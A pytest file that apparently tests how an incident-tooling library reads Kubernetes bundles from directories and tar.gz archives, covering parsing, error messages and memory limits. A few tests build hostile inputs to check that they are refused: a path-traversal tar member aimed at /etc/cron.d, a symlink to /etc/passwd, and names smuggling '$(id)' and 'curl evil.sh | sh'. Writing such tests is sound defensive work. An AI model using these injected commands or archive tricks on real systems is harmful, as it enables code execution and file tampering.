"""Reading bundles: directories, archives, hand-made bundles, and every way a bundle can be bad."""

from __future__ import annotations

import io
import json
import re
import tarfile
import tracemalloc

import pytest

from incident_lib.errors import InputError
from incident_lib.sources.bundle import _decoding_cost, read_bundle
from tests.helpers import OOM_DRILL, write_bundle

POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "web-1", "namespace": "shop"},
    "status": {"phase": "Running"},
}


def test_a_bundle_made_from_kubectl_pods_and_events_reads(tmp_path):
    event = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": "web-1.1", "namespace": "shop"},
        "involvedObject": {"kind": "Pod", "namespace": "shop", "name": "web-1"},
        "reason": "BackOff",
    }
    snapshot = read_bundle(write_bundle(tmp_path / "b", [POD, event]))
    assert [p["metadata"]["name"] for p in snapshot.of_kind("Pod")] == ["web-1"]
    assert [e.reason for e in snapshot.events.about("Pod", "shop", "web-1")] == ["BackOff"]
    assert snapshot.captured_at.isoformat() == "2025-12-17T10:05:00+00:00"


def test_kind_lists_give_their_items_the_kind_the_api_omitted(tmp_path):
    root = write_bundle(tmp_path / "b", [])
    item = {k: v for k, v in POD.items() if k != "kind"}
    (root / "k8s" / "pods.json").write_text(json.dumps({"kind": "PodList", "items": [item]}))
    (root / "k8s" / "one.json").write_text(
        json.dumps({**POD, "metadata": {"name": "web-2", "namespace": "shop"}})
    )
    assert sorted(p["metadata"]["name"] for p in read_bundle(root).of_kind("Pod")) == ["web-1", "web-2"]


def test_the_shipped_bundle_reads_the_same_from_a_tar_gz_with_a_top_folder(tmp_path, oom_drill):
    archive = tmp_path / "oom-drill.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        tar.add(OOM_DRILL, arcname="oom-drill")
    packed = read_bundle(archive)
    assert packed.objects == oom_drill.objects
    assert packed.metrics == oom_drill.metrics
    assert packed.log("default", "oom-test-7f77d89c59-vqgkt", "app", previous=True) == oom_drill.log(
        "default", "oom-test-7f77d89c59-vqgkt", "app", previous=True
    )


def _archive_with(tmp_path, member: tarfile.TarInfo, data: bytes = b"") -> str:
    path = tmp_path / "evil.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        manifest = json.dumps(
            {"format": "incident-bundle/v1", "captured_at": "2025-12-17T10:05:00Z"}
        ).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(manifest)
        tar.addfile(info, io.BytesIO(manifest))
        member.size = len(data)
        tar.addfile(member, io.BytesIO(data))
    return str(path)


def test_an_archive_member_that_escapes_the_bundle_is_refused(tmp_path):
    with pytest.raises(InputError, match=r"member '\.\./\.\./etc/cron\.d/x' points outside the bundle"):
        read_bundle(_archive_with(tmp_path, tarfile.TarInfo("../../etc/cron.d/x"), b"* * * * * root boom"))


def test_an_archive_link_is_refused(tmp_path):
    link = tarfile.TarInfo("k8s/pods.json")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    with pytest.raises(InputError, match="is a link or device"):
        read_bundle(_archive_with(tmp_path, link))


def test_a_huge_log_in_an_archive_is_kept_as_its_tail(tmp_path):
    log = b"old line\n" * 200_000 + b"the last line\n"
    snapshot = read_bundle(_archive_with(tmp_path, tarfile.TarInfo("logs/shop/web-1/web.log"), log))
    text = snapshot.log("shop", "web-1", "web")
    assert text.endswith("the last line\n") and len(text) <= 1 << 20


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (
            lambda root: (root / "k8s" / "cluster.json").write_text('{"kind": "List", "items": [}'),
            "k8s/cluster.json: malformed JSON (line 1",
        ),
        (lambda root: (root / "manifest.json").unlink(), "not an incident bundle (no manifest.json)"),
        (
            lambda root: (root / "manifest.json").write_text('{"format": "v0"}'),
            "manifest.json: format is 'v0'",
        ),
        (
            lambda root: (root / "manifest.json").write_text(
                '{"format": "incident-bundle/v1", "captured_at": "soon"}'
            ),
            "captured_at must be an RFC 3339 time",
        ),
        (
            lambda root: (root / "k8s" / "x.json").write_text('{"items": []}'),
            "k8s/x.json: an object has no 'kind'",
        ),
        (
            lambda root: (root / "metrics").mkdir() or (root / "metrics" / "m.json").write_text("{}"),
            "metrics/m.json: not a Prometheus",
        ),
    ],
    ids=["malformed-json", "no-manifest", "wrong-format", "bad-captured-at", "no-kind", "not-prometheus"],
)
def test_a_bad_bundle_is_an_error_naming_the_file(tmp_path, damage, message):
    root = write_bundle(tmp_path / "b", [POD])
    damage(root)
    with pytest.raises(InputError, match=re.escape(message)):
        read_bundle(root)


def test_a_missing_path_and_a_file_that_is_no_archive_are_errors(tmp_path):
    with pytest.raises(InputError, match="bundle not found"):
        read_bundle(tmp_path / "nope")
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"not gzip at all")
    with pytest.raises(InputError, match=r"not a directory or a readable \.tar\.gz bundle"):
        read_bundle(junk)


@pytest.mark.parametrize(
    ("obj", "message"),
    [
        ({**POD, "metadata": "x"}, "k8s/cluster.json: a Pod has a 'metadata' that is not an object"),
        (
            {**POD, "metadata": {"name": "web-1", "namespace": "d$(id)"}},
            "k8s/cluster.json: a Pod has an invalid name 'd$(id)'",
        ),
        (
            {**POD, "spec": {"containers": [{"name": "x; curl evil.sh | sh"}]}},
            "k8s/cluster.json: a Pod has an invalid name 'x; curl evil.sh | sh'",
        ),
    ],
    ids=["metadata-not-an-object", "shell-in-namespace", "shell-in-container-name"],
)
def test_objects_with_the_wrong_shape_or_hostile_names_are_refused(tmp_path, obj, message):
    with pytest.raises(InputError, match=re.escape(message)):
        read_bundle(write_bundle(tmp_path / "b", [obj]))


def test_an_archive_that_unpacks_past_the_bundle_limit_is_refused(tmp_path, monkeypatch):
    from incident_lib.sources import bundle

    monkeypatch.setattr(bundle, "MAX_BUNDLE_BYTES", 1000)
    with pytest.raises(InputError, match="unpacks to more than"):
        read_bundle(_archive_with(tmp_path, tarfile.TarInfo("k8s/pods.json"), b" " * 2000))


def test_files_outside_the_bundle_layout_are_not_read(tmp_path):
    snapshot = read_bundle(_archive_with(tmp_path, tarfile.TarInfo("junk/huge.bin"), b"x" * 5000))
    assert snapshot.objects == []


def test_a_time_without_a_zone_is_utc_whatever_the_machine_says(tmp_path, monkeypatch):
    import time

    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    manifest = {"format": "incident-bundle/v1", "captured_at": "2025-12-17T10:05:00"}
    try:
        snapshot = read_bundle(write_bundle(tmp_path / "b", [POD], manifest))
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()
    assert snapshot.captured_at.isoformat() == "2025-12-17T10:05:00+00:00"


def _traced_peak(data: bytes) -> int:
    """The most memory `json.loads(data)` held at once, as tracemalloc counts it."""
    tracemalloc.start()
    try:
        json.loads(data)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "data",
    [
        *(
            b"[" + item * 20_000 + b"0]"
            for item in (b"{},", b"[[[[]]]],", b'{"k":0},', b'"ab",', b"0.5,", b"[0],")
        ),
        ("{" + ",".join(f'"{i:x}":0' for i in range(20_000)) + "}").encode(),  # keys are never shared
        b'["' + b"a" * 1_000_000 + b'\\ud83d\\ude00"]',  # one escaped emoji makes the string 4 bytes a letter
        ('["' + "a" * 1_000_000 + '\U0001f600"]').encode(),
    ],
    ids=[
        "dicts",
        "nested-lists",
        "one-key-dicts",
        "short-strings",
        "floats",
        "lists",
        "unique-keys",
        "escape",
        "utf-8",
    ],
)
def test_decoding_json_is_charged_at_least_what_it_costs_whatever_its_shape(data):
    assert _decoding_cost(data) >= _traced_peak(data)


def test_the_shipped_incidents_are_charged_at_most_three_times_what_they_cost():
    for file in sorted((OOM_DRILL.parent).glob("*/k8s/cluster.json")):
        data = file.read_bytes()
        assert _traced_peak(data) <= _decoding_cost(data) <= 3 * _traced_peak(data), file


def test_a_bundle_whose_json_would_cost_too_much_memory_is_refused_naming_the_file(tmp_path, monkeypatch):
    from incident_lib.sources import bundle

    root = write_bundle(tmp_path / "b", [POD] * 2_000)
    monkeypatch.setattr(bundle, "MAX_JSON_MEMORY", 1 << 20)
    with pytest.raises(
        InputError,
        match=r"^k8s/cluster\.json: decoding it would take the bundle over the 1 MiB of memory it may use$",
    ):
        read_bundle(root)


def test_a_json_file_over_the_file_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    from incident_lib.sources import bundle

    root = write_bundle(tmp_path / "b", [POD] * 100)
    monkeypatch.setattr(bundle, "MAX_FILE_BYTES", 1 << 10)
    with pytest.raises(InputError, match=r"k8s/cluster\.json is \d+ bytes, over the 0 MiB limit"):
        read_bundle(root)
